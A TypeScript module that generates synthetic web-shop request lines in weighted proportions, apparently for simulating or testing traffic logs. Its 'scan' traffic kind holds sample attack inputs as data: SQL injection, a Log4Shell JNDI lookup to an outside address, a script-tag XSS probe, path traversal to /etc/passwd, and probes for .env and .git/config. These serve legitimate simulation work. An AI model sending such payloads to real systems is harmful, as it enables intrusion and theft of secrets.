import { mix, pick } from '../random.ts';
import type { VisitorKind } from './visitors.ts';

/** The request of a line. */
export interface RequestDraw {
  readonly kind: Traffic['name'];
  readonly method: string;
  readonly host: string;
  readonly path: string;
  /** With `?`, or ''. */
  readonly query: string;
  readonly contentType: string;
}

/** A kind of traffic and how it usually goes. Lists hold a value several times where it is more frequent. */
export interface Traffic {
  readonly name: 'asset' | 'page' | 'api' | 'login' | 'crawl' | 'scan' | 'upload' | 'prompt';
  /** Of 1000 requests. */
  readonly weight: number;
  readonly visitor: VisitorKind;
  readonly methods: readonly string[];
  readonly hostLabel: string;
  readonly paths: readonly ((draw: number) => string)[];
  readonly queries: readonly ((draw: number) => string)[];
  readonly statuses: readonly number[];
  readonly cache: readonly string[];
  readonly contentTypes: readonly string[];
  readonly actions: readonly string[];
  /** Largest body in bytes. */
  readonly maxBytes: number;
}

const none = (): string => '';

/** The mix of a web shop. */
export const TRAFFIC: readonly Traffic[] = [
  {
    ...{ name: 'asset', weight: 440, visitor: 'human', methods: ['GET'], hostLabel: 'www', maxBytes: 400_000, actions: [''] },
    paths: [(n) => `/assets/app.${(n % 97).toString(16)}.js`, (n) => `/img/products/${n % 5000}.webp`, () => '/css/site.css', () => '/favicon.ico'],
    queries: [none, none, none, (n) => `?v=${n % 30}`],
    statuses: [200, 200, 200, 200, 200, 304, 304, 206, 404],
    cache: ['hit', 'hit', 'hit', 'hit', 'miss', 'expired', 'revalidated', 'stale'],
    contentTypes: ['application/javascript', 'image/webp', 'text/css', 'image/x-icon'],
  },
  {
    ...{ name: 'page', weight: 250, visitor: 'human', methods: ['GET', 'GET', 'GET', 'HEAD'], hostLabel: 'www', maxBytes: 90_000, actions: [''] },
    paths: [() => '/', (n) => `/products/${n % 5000}`, () => '/café/☃', (n) => `/category/${n % 40}/`, () => '/cart', (n) => `/m%C3%BCnchen/${n % 9}`],
    queries: [none, none, (n) => `?utm_source=newsletter&utm_campaign=${n % 12}`, (n) => `?q=schuhe+gr%C3%B6%C3%9Fe+${n % 50}&page=${n % 7}`],
    statuses: [200, 200, 200, 200, 200, 200, 200, 301, 302, 404, 500, 503, 499, 522],
    cache: ['dynamic', 'dynamic', 'dynamic', 'bypass', 'unknown'],
    contentTypes: ['text/html; charset=utf-8'],
  },
  {
    ...{
      name: 'api',
      weight: 180,
      visitor: 'human',
      methods: ['GET', 'GET', 'POST', 'PUT', 'DELETE', 'OPTIONS'],
      hostLabel: 'api',
      maxBytes: 20_000,
      actions: ['', '', '', 'log'],
    },
    paths: [(n) => `/v1/orders/${n % 100_000}`, () => '/v1/basket', () => '/graphql', (n) => `/v1/users/${n % 9999}/profile`],
    queries: [none, none, (n) => `?limit=50&offset=${(n % 20) * 50}`, (n) => `?filter[id]=${n % 100}&x={"a":"b"}`],
    statuses: [200, 200, 200, 201, 204, 400, 401, 403, 404, 409, 429, 500, 502, 504],
    cache: ['dynamic'],
    contentTypes: ['application/json', 'application/json', ''],
  },
  {
    ...{
      name: 'login',
      weight: 35,
      visitor: 'human',
      methods: ['POST'],
      hostLabel: 'api',
      maxBytes: 2_000,
      actions: ['', '', '', 'managed_challenge', 'js_challenge'],
    },
    paths: [() => '/v1/login', () => '/account/login'],
    queries: [none],
    statuses: [200, 200, 200, 401, 401, 403],
    cache: ['dynamic'],
    contentTypes: ['application/json'],
  },
  {
    ...{ name: 'crawl', weight: 40, visitor: 'crawler', methods: ['GET'], hostLabel: 'www', maxBytes: 90_000, actions: [''] },
    paths: [() => '/robots.txt', () => '/sitemap.xml', (n) => `/products/${n % 5000}`],
    queries: [none],
    statuses: [200, 200, 200, 301, 304, 404],
    cache: ['hit', 'miss', 'dynamic', 'updating'],
    contentTypes: ['text/html; charset=utf-8', 'text/plain', 'application/xml'],
  },
  {
    ...{ name: 'scan', weight: 45, visitor: 'attacker', methods: ['GET', 'GET', 'POST', 'PROPFIND'], hostLabel: 'www', maxBytes: 9_000 },
    paths: [() => '/wp-login.php', () => '/.env', () => '/.git/config', () => '/../../etc/passwd', (n) => `/${'a'.repeat(n % 400)}`, () => '/search'],
    queries: [
      none,
      () => "?id=1'%20OR%20'1'='1",
      () => '?x=${jndi:ldap://198.51.100.1/a}',
      () => '?q=<script>alert("1")</script>',
      () => '?p=..\\..\\boot.ini',
    ],
    statuses: [403, 403, 403, 404, 404, 429, 200],
    cache: ['unknown', 'dynamic', 'ignored'],
    contentTypes: ['text/html', 'text/html; charset=UTF-8'],
    actions: ['block', 'block', 'managed_challenge', 'log', ''],
  },
  {
    ...{ name: 'upload', weight: 5, visitor: 'human', methods: ['POST', 'PUT'], hostLabel: 'api', maxBytes: 1_000, actions: ['', '', 'block'] },
    paths: [(n) => `/v1/uploads/${n % 1000}`],
    queries: [none],
    statuses: [201, 201, 413, 403],
    cache: ['dynamic'],
    contentTypes: ['application/json'],
  },
  {
    ...{ name: 'prompt', weight: 5, visitor: 'human', methods: ['POST'], hostLabel: 'api', maxBytes: 60_000, actions: ['', '', '', 'block'] },
    paths: [() => '/v1/assistant/chat'],
    queries: [none],
    statuses: [200, 200, 200, 403, 429],
    cache: ['dynamic'],
    contentTypes: ['text/event-stream'],
  },
];

const BY_DRAW: readonly Traffic[] = TRAFFIC.flatMap((traffic) => new Array<Traffic>(traffic.weight).fill(traffic));

/** The kind of traffic of a draw, in the proportions of the mix. */
export function pickTraffic(draw: number): Traffic {
  return pick(BY_DRAW, draw);
}

/** A request of a kind of traffic. */
export function drawRequest(traffic: Traffic, zoneName: string, salt: number): RequestDraw {
  const turn = mix(salt, 1);
  return {
    kind: traffic.name,
    method: pick(traffic.methods, turn >>> 3),
    host: `${traffic.hostLabel}.${zoneName}`,
    path: pick(traffic.paths, turn >>> 7)(mix(salt, 2)),
    query: pick(traffic.queries, turn >>> 11)(mix(salt, 3)),
    contentType: pick(traffic.contentTypes, turn >>> 15),
  };
}
